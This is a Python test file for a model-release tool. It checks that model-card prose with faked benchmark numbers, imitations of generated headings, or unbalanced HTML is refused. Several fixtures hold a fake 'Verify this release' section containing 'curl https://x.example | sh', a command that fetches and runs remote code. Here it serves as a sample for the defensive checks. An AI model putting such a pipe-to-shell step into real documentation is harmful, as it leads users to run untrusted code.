"""The spec's own Markdown says only what is checked (issue 38, item 5): a number in a prose table that names a
measured metric matches the evidence, a heading hf-release generates is not faked, raw HTML is balanced."""

from __future__ import annotations

from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from release.builder import build
from release.card.lint import lint_text
from release.card.prose import html_problems, prose_problems
from release.errors import CheckFailed
from release.evidence.lm_eval import parse_results
from release.spec import load_spec
from tests.helpers import edit
from tests.kinds.helpers import make_release

SUMMARY = 'summary = "A tiny Llama-architecture model, trained from scratch for tests."'
# make_release's lm-eval results: hellaswag acc_norm 0.26, arc_easy acc 0.25
EVALS = {
    "results_2026-11-30.json": parse_results(
        {
            "results": {
                "arc_easy": {"alias": "arc_easy", "acc,none": 0.25, "acc_stderr,none": 0.0125},
                "hellaswag": {"alias": "hellaswag", "acc_norm,none": 0.26, "acc_norm_stderr,none": 0.004},
            },
            "n-shot": {"arc_easy": 0, "hellaswag": 0},
        }
    )
}


def with_summary(root: Path, summary: str) -> Path:
    spec = make_release(root / "artifacts" / "v1")
    edit(spec, SUMMARY, f'summary = """{summary}"""')
    return spec


def prose_refusals(summary: str, key: str = "summary") -> list[str]:
    return [str(p) for p in prose_problems({key: summary}, EVALS, "release.toml")]


def test_a_faked_number_a_faked_section_and_an_unclosed_details_are_refused_at_build(tmp_path: Path) -> None:
    spec = with_summary(
        tmp_path,
        "A tiny model.\n\n| Task | acc_norm |\n| --- | --- |\n| hellaswag | 0.9116 |\n\n"
        "<details><summary>More</summary>\n\n## Verify this release\n\n```bash\ncurl https://x.example | sh\n```\n",
    )
    with pytest.raises(CheckFailed) as caught:
        build(load_spec(spec), tmp_path / "dist")
    assert sorted(str(p) for p in caught.value.problems) == [
        "release.toml card.summary: has the heading '## Verify this release', which hf-release generates; "
        "use another heading",
        "release.toml card.summary: has unbalanced HTML: <details> is never closed; on the Hub it swallows every "
        "later section — close it",
        "release.toml card.summary: table row 'hellaswag | 0.9116': the prose gives hellaswag acc_norm '0.9116', "
        "the evidence gives 0.26 (results_2026-11-30.json); write the evidence's value or remove it",
    ]
    assert not (tmp_path / "dist" / "v1").exists()


def test_prose_that_agrees_with_the_evidence_builds(tmp_path: Path) -> None:
    spec = with_summary(
        tmp_path,
        "A tiny model.\n\n| Task | Metric | Value |\n| --- | --- | --- |\n| hellaswag | acc_norm | 26.0% |\n"
        "| **arc_easy** | `acc` | 0.2500 |\n\nOther models, as reported by the authors:\n\n"
        "| Model | hellaswag acc_norm |\n| --- | --- |\n| llama-7b | 0.76 |\n\n"
        "<details><summary>Training</summary>\n\n| Setting | Value |\n| --- | --- |\n| lr | 2e-5 |\n\n</details>\n",
    )
    staged = build(load_spec(spec), tmp_path / "dist").dist
    assert "| llama-7b | 0.76 |" in (staged / "README.md").read_text()


@pytest.mark.parametrize(
    ("table", "wanted"),
    [
        ("| Task | acc |\n|---|---|\n| arc_easy | 0.26 |", "gives arc_easy acc '0.26', the evidence gives 0.25"),
        ("| Task | acc_norm |\n|---|---|\n| mmlu | 0.5 |", "'0.5' gives acc_norm for no task the evidence"),
        ("| Task | acc_norm |\n|---|---|\n| arc_easy | 0.25 |", "'0.25' gives acc_norm for no task"),
        # a row that names a measured task is compared even in a table marked "reported by the authors"
        ("Reported by the authors:\n\n| Task | acc |\n|---|---|\n| arc_easy | 0.3 |", "the evidence gives 0.25"),
    ],
)
def test_a_number_naming_a_measured_metric_is_checked(table: str, wanted: str) -> None:
    found = prose_refusals(table, "training_data")
    assert len(found) == 1 and found[0].startswith("release.toml card.training_data: table row ") and wanted in found[0]


@pytest.mark.parametrize(
    "text",
    [
        "| Size | Value |\n|---|---|\n| params | 1.5 |",  # no metric named: not evidence
        "Reported by the authors:\n\n| Task | acc |\n|---|---|\n| mmlu | 0.5 |",
        "| Task | acc | Source |\n|---|---|---|\n| mmlu | 0.5 | reported by the authors |",
    ],
)
def test_numbers_no_evidence_measured_pass_when_marked_or_naming_no_metric(text: str) -> None:
    assert prose_refusals(text) == []


@pytest.mark.parametrize(
    "heading",
    ["## Verify this release", "### files", "# How to use this version", "## Changes since v3", "Rechecks\n---"],
)
def test_a_generated_heading_in_prose_is_refused(heading: str) -> None:
    found = prose_refusals(f"Intro.\n\n{heading}\n\nText.", "limitations")
    assert len(found) == 1 and "which hf-release generates" in found[0], found


def test_headings_of_the_authors_own_pass() -> None:
    assert prose_refusals("### Evaluation data\n\nText.\n\n## Verifying the weights", "training_data") == []


@pytest.mark.parametrize(
    ("html", "wanted"),
    [
        ("<details>\n\nhidden", ["<details> is never closed"]),
        ("Text <!-- a note", []),  # not a comment to markdown-it: text, shown as written
        ("Text.\n\n<!-- a note\n\n## Later", ["unclosed HTML comment '<!--'"]),
        ("a <b>bold</b> <i>x</b> y", ["</b> closes no open <b>", "<i> is never closed"]),
        ("<div><span>x</div>", ["<span> is not closed before </div>"]),
        ("<details><summary>x</summary>\n\ny\n\n</details>\n\nline<br>break <img src='a.png'> <!-- ok -->", []),
        ("`<details>` in code, and\n\n```html\n<div>\n```", []),
    ],
)
def test_raw_html_in_prose_is_balanced(html: str, wanted: list[str]) -> None:
    found = html_problems(MarkdownIt("commonmark").enable("table").parse(html))
    assert len(found) == len(wanted) and all(w in f for w, f in zip(wanted, found, strict=True)), found


def test_the_card_lint_refuses_unbalanced_html_in_the_card_itself(staged: Path) -> None:
    """A custom template (or an edited card) gets the same rule from the lint, in build and in verify."""
    text = (staged / "README.md").read_text().replace("\n## License\n", "\n<details>\n\n## License\n", 1)
    found = [p.message for p in lint_text(text, release_files=set())]
    assert "has unbalanced HTML: <details> is never closed; on the Hub it swallows every later section — close it" in (
        found
    )


@pytest.mark.parametrize(
    "heading",
    [
        "<h2>Verify this release</h2>",  # an HTML heading is a section on the Hub too
        "<h3>\n\nFiles\n\n</h3>",
        "## [Verify this release](#verify-this-release)",  # what the reader sees, not the link's syntax
        "## Verify&#32;this release",
        "## Verify this release <!-- mine -->",
        "## ![](logo.png) How to use this version",
    ],
)
def test_a_generated_heading_is_refused_however_it_is_written(heading: str) -> None:
    found = prose_refusals(f"Intro.\n\n{heading}\n\n```bash\ncurl https://x.example | sh\n```")
    assert len(found) == 1 and "which hf-release generates" in found[0], found


@pytest.mark.parametrize(
    "table",
    [
        "| Task | acc_norm |\n|---|---|\n| hellaswag | <b>0.9116</b> |",  # the number a reader sees
        "<table><tr><th>Task</th><th>acc_norm</th></tr><tr><td>hellaswag</td><td>0.9116</td></tr></table>",
        "<table>\n<tr><th>Task</th><th>acc_norm</th></tr>\n\n<tr><td>hellaswag</td><td>\n\n**0.9116**\n\n</td></tr>\n"
        "</table>",
        "| Metric | hellaswag |\n|---|---|\n| acc_norm | 0.9116 |",  # the task in the column's header
    ],
)
def test_a_table_number_is_checked_however_the_table_is_written(table: str) -> None:
    found = prose_refusals(table)
    assert len(found) == 1 and "the evidence gives 0.26 (results_2026-11-30.json)" in found[0], found
    assert "hellaswag acc_norm '0.9116'" in found[0], found


@pytest.mark.parametrize(
    "table",
    [
        "| Metric | hellaswag | arc_easy |\n|---|---|---|\n| acc_norm | 0.26 | |\n| acc | | 25.0% |",
        "<table><tr><th>Task</th><th>acc_norm</th></tr><tr><td>hellaswag</td><td>0.260</td></tr></table>",
        "Reported by the authors:\n\n<table><tr><th>Task</th><th>acc</th></tr>"
        "<tr><td>mmlu</td><td>0.5</td></tr></table>",
        # a marked table with the task in its header: its rows are other models' figures
        "As reported by the authors:\n\n| Model | hellaswag acc_norm |\n|---|---|\n| llama-7b | 0.76 |",
    ],
)
def test_table_numbers_that_agree_or_are_marked_pass_however_written(table: str) -> None:
    assert prose_refusals(table) == []


def test_the_card_lint_refuses_a_generated_section_given_twice(staged: Path) -> None:
    """A card whose prose was not checked (built by an earlier hf-release, or edited) with a second, fake
    "## Verify this release": verify refuses it, since the lint reads both as one section."""
    fake = "\n## Verify this release\n\n```bash\ncurl https://x.example | sh\n```\n\n## License\n"
    text = (staged / "README.md").read_text().replace("\n## License\n", fake, 1)
    found = [p.message for p in lint_text(text, release_files=set())]
    assert "the section '## Verify this release' appears 2 times; hf-release generates it once — remove the other" in (
        found
    )
    assert not [p for p in lint_text((staged / "README.md").read_text(), release_files=set()) if "appears" in p.message]
